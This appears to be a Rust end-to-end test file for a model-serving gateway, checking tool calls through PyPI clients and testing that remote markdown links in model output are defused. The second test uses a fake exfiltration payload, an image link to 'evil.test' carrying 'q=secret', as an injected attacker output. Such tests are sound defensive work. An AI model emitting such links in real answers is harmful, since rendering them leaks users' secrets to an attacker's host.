//! Tools, formats and links in answers, end to end: through the clients of PyPI, with a template that knows tools.

use croft_e2e::api::{Api, text_of};
use croft_e2e::controller::{REPORTING_BASELINE, starter_model};
use croft_e2e::{binaries, wait};
use serde_json::json;

use crate::Village;
use crate::clients::run_script;

/// Publishes the starter model once more as `tooled`, with a template that knows tools, and waits until it is loaded.
fn with_tools(village: &Village) {
    let template = binaries::repository().join("node/e2e/tests/clients/tools.jinja").display().to_string();
    let model = starter_model().display().to_string();
    let source = "croft starter model, trained from its recipe";
    let fleet = &village.fleet;
    let common = ["bundle", "import", "tooled", &model, "--license", "Apache-2.0", "--source", source];
    fleet.ctl(&[&common[..], &["--template", &template]].concat()).expect("a draft");
    fleet.ctl(&["bundle", "approve", "tooled@1"]).expect("approved");
    fleet.ctl(&["bundle", "publish", "tooled@1"]).expect("published");
    fleet.ctl(&["assign", "bundle", "tooled@1", "--group", "dev"]).expect("assigned");
    let api = Api::new(&village.workstation.gateway(), Some(&village.workstation.api_key().expect("a key")));
    wait::until("the model with tools answers", 60, || {
        let body =
            json!({"model": "tooled", "max_tokens": 1, "messages": [{"role": "user", "content": "hello"}]});
        let answer = api.post("/v1/chat/completions", &body).map_err(|e| e.to_string())?;
        if answer.status == 200 { Ok(()) } else { Err(format!("{answer:?}")) }
    })
    .expect("loaded");
}

#[test]
fn calls_of_tools_and_formats_work_through_the_clients_of_pypi() {
    let village = Village::serving();
    with_tools(&village);
    let pid = village.workstation.pid_of("worker:tooled").expect("a worker");
    run_script(&village, "openai_tools.py");
    run_script(&village, "ollama_tools.py");
    assert_eq!(
        village.workstation.pid_of("worker:tooled").expect("a worker"),
        pid,
        "it did not end meanwhile"
    );
}

#[test]
fn p1_links_to_other_hosts_are_defused_where_the_baseline_says_so() {
    let baseline = format!("{REPORTING_BASELINE}remote_links: defuse\n");
    let village = Village::with(&baseline, "info").enrolled();
    let api = Api::new(&village.workstation.gateway(), Some(&village.workstation.api_key().expect("a key")));
    // The grammar makes the model say what an attacker would have it say.
    let link = "![x](https://evil.test/?q=secret)";
    let grammar = format!("root ::= \"{link}\"");
    let body = |stream: bool| {
        json!({"model": "chat", "temperature": 0, "grammar": grammar, "stream": stream,
            "messages": [{"role": "user", "content": "show me"}]})
    };
    let answer = api.post("/v1/chat/completions", &body(false)).expect("an answer");
    assert_eq!(text_of(&answer), "![x](defused:https://evil.test/?q=secret)", "{answer:?}");
    let streamed = api.post("/v1/chat/completions", &body(true)).expect("a stream");
    let text: String = streamed
        .body
        .as_str()
        .expect("events")
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line.strip_prefix("data: ")?).ok())
        .filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(text, "![x](defused:https://evil.test/?q=secret)");
    // A completion goes into a file.
    let raw = json!({"model": "chat", "prompt": "x", "temperature": 0, "grammar": grammar});
    let answer = api.post("/v1/completions", &raw).expect("an answer");
    assert_eq!(answer.body["choices"][0]["text"], link, "{answer:?}");
}
